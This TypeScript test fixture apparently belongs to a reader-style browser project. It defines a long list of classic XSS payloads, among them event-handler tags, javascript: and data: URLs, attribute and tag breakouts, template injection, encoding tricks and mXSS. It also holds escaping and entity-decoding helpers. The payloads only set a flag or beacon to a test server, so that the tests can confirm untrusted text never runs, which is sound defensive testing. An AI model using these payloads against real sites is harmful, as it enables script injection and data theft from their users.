/**
 * XSS payloads for the "never break the page, never leak" tests. Each one, if it were ever rendered as
 * HTML, run as a template or followed as a URL, would set `window.__pwned` (to its id) in the window it
 * ran in, or fetch `<origin>/pwned/<id>` from the hostile test server (a beacon that works from any
 * context: page, panel, offscreen document). Written for this project; the classics, one line each.
 */

export interface Payload {
  id: number;
  /** What kind of attack it is, for the log. */
  kind: string;
  /** The payload as it should appear to a reader: plain text, never markup. */
  text: string;
}

/** The script every payload tries to run. No spaces, so it also works as an unquoted attribute. */
const flag = (id: number) => `window.__pwned=${id}`;

/** The payloads, for a hostile server at `origin` (the beacon target). */
export function hostilePayloads(origin: string): Payload[] {
  const beacon = (id: number) => `${origin}/pwned/${id}`;
  const list: [string, (id: number) => string][] = [
    ['img onerror', (i) => `<img src=x onerror=${flag(i)}>`],
    ['img onerror, quoted', (i) => `<img src="x" onerror="${flag(i)}">`],
    ['svg onload', (i) => `<svg onload=${flag(i)}>`],
    ['svg/onload, no space', (i) => `<svg/onload=${flag(i)}>`],
    ['svg animate onbegin', (i) => `<svg><animate onbegin=${flag(i)} attributeName=x dur=1s>`],
    ['svg script', (i) => `<svg><script>${flag(i)}</script></svg>`],
    ['iframe srcdoc', (i) => `<iframe srcdoc="<img src=x onerror=top.__pwned=${i}>"></iframe>`],
    ['iframe javascript: src', (i) => `<iframe src="javascript:top.__pwned=${i}"></iframe>`],
    ['iframe beacon', (i) => `<iframe src="${beacon(i)}"></iframe>`],
    ['a href javascript:', (i) => `<a href="javascript:${flag(i)}">read more</a>`],
    ['a href javascript: with a tab', (i) => `<a href="jav&#x09;ascript:${flag(i)}">read more</a>`],
    ['a href data: html', (i) => `<a href="data:text/html,<script>opener.__pwned=${i}</script>">open</a>`],
    ['bare javascript: URL', (i) => `javascript:${flag(i)}//https://example.com/`],
    ['mixed-case JaVaScRiPt: img', (i) => `<IMG SRC="JaVaScRiPt:${flag(i)}">`],
    ['quote breakout + script', (i) => `"><script>${flag(i)}</script>`],
    ['single-quote breakout + script', (i) => `'><script>${flag(i)}</script>`],
    ['attribute breakout onmouseover', (i) => `" onmouseover="${flag(i)}" x="`],
    ['attribute breakout autofocus', (i) => `' autofocus onfocus='${flag(i)}' x='`],
    ['</title> breakout', (i) => `</title><script>${flag(i)}</script>`],
    ['</script> breakout', (i) => `</script><script>${flag(i)}</script>`],
    ['</textarea> breakout', (i) => `</textarea><img src=x onerror=${flag(i)}>`],
    ['comment breakout', (i) => `--><img src=x onerror=${flag(i)}>`],
    ['CDATA breakout', (i) => `]]><img src=x onerror=${flag(i)}>`],
    ['JSON string breakout', (i) => `\\"}]</script><img src=x onerror=${flag(i)}>`],
    ['template injection (Angular)', (i) => `{{constructor.constructor('${flag(i)}')()}}`],
    ['template injection ($on)', (i) => `{{$on.constructor('${flag(i)}')()}}`],
    ['template literal', (i) => `\${${flag(i)}}`],
    ['server template', (i) => `<%= ${flag(i)} %>`],
    ['entity-encoded img', (i) => `&lt;img src=x onerror=${flag(i)}&gt;`],
    ['decimal entities script', (i) => `&#60;script&#62;${flag(i)}&#60;/script&#62;`],
    ['hex entities svg', (i) => `&#x3C;svg onload=${flag(i)}&#x3E;`],
    ['entity inside handler', (i) => `<img src=x onerror="&#119;indow.__pwned=${i}">`],
    ['JS unicode escapes', (i) => `\\u003cimg src=x onerror=${flag(i)}\\u003e`],
    ['JS hex escapes', (i) => `\\x3cscript\\x3e${flag(i)}\\x3c/script\\x3e`],
    ['fullwidth brackets', (i) => `＜script＞${flag(i)}＜/script＞`],
    ['RTL override in a name', (i) => `Sm\u202eith<img src=x onerror=${flag(i)}>`],
    ['zero-width joiners', (i) => `<im\u200dg src=x one\u200crror=${flag(i)}><img src=x onerror=${flag(i)}>`],
    ['data: URL object', (i) => `<object data="data:text/html,<script>parent.__pwned=${i}</script>"></object>`],
    [
      'data: URL iframe, base64',
      (i) => `<iframe src="data:text/html;base64,${btoa(`<script>parent.__pwned=${i}</script>`)}"></iframe>`,
    ],
    ['style expression', (i) => `<div style="width:expression(${flag(i)})">x</div>`],
    ['style url(javascript:)', (i) => `<div style="background:url(javascript:${flag(i)})">x</div>`],
    ['style @import beacon', (i) => `<style>@import '${beacon(i)}';</style>`],
    ['link stylesheet beacon', (i) => `<link rel=stylesheet href="${beacon(i)}">`],
    ['img beacon', (i) => `<img src="${beacon(i)}">`],
    ['script src beacon', (i) => `<script src="${beacon(i)}"></script>`],
    ['body onload', (i) => `<body onload=${flag(i)}>`],
    ['input autofocus onfocus', (i) => `<input autofocus onfocus=${flag(i)}>`],
    ['details ontoggle', (i) => `<details open ontoggle=${flag(i)}>`],
    ['video source onerror', (i) => `<video><source onerror=${flag(i)}></video>`],
    ['marquee onstart', (i) => `<marquee onstart=${flag(i)}>news</marquee>`],
    ['form formaction', (i) => `<form><button formaction="javascript:${flag(i)}">go</button></form>`],
    ['meta refresh', (i) => `<meta http-equiv="refresh" content="0;url=javascript:${flag(i)}">`],
    ['base href', (i) => `<base href="javascript:${flag(i)}//">`],
    ['embed javascript:', (i) => `<embed src="javascript:${flag(i)}">`],
    ['nested-tag filter bypass', (i) => `<scr<script>ipt>${flag(i)}</scr</script>ipt>`],
    ['mXSS noscript', (i) => `<noscript><p title="</noscript><img src=x onerror=${flag(i)}>"></noscript>`],
    ['mXSS math/style', (i) => `<math><mtext><table><mglyph><style><img src=x onerror=${flag(i)}>`],
    ['template element', (i) => `<template><img src=x onerror=${flag(i)}></template>`],
  ];
  return list.map(([kind, make], index) => ({ id: index + 1, kind, text: make(index + 1) }));
}

/** Escapes text for an HTML text node or a double- or single-quoted attribute. */
export function escapeHtml(text: string): string {
  return text
    .replaceAll('&', '&amp;')
    .replaceAll('<', '&lt;')
    .replaceAll('>', '&gt;')
    .replaceAll('"', '&quot;')
    .replaceAll("'", '&#39;');
}

/** A JSON string literal that cannot end the <script> element it sits in. */
export function jsonInScript(value: unknown): string {
  return JSON.stringify(value).replaceAll('<', '\\u003c').replaceAll('>', '\\u003e').replaceAll('&', '\\u0026');
}

/** The HTML entities Readability decodes in metadata (named basics and numeric), decoded. */
export function decodeEntities(text: string): string {
  const named: Record<string, string> = { quot: '"', amp: '&', apos: "'", lt: '<', gt: '>' };
  return text
    .replace(/&(quot|amp|apos|lt|gt);/g, (_m, n: string) => named[n]!)
    .replace(/&#(?:x([0-9a-f]+)|([0-9]+));/gi, (_m, hex: string | undefined, dec: string | undefined) =>
      String.fromCodePoint(parseInt(hex ?? dec!, hex ? 16 : 10)),
    );
}

/** Whitespace as the reader sees it: runs collapsed, ends trimmed. */
export const normalizeSpace = (text: string) => text.replace(/\s+/g, ' ').trim();
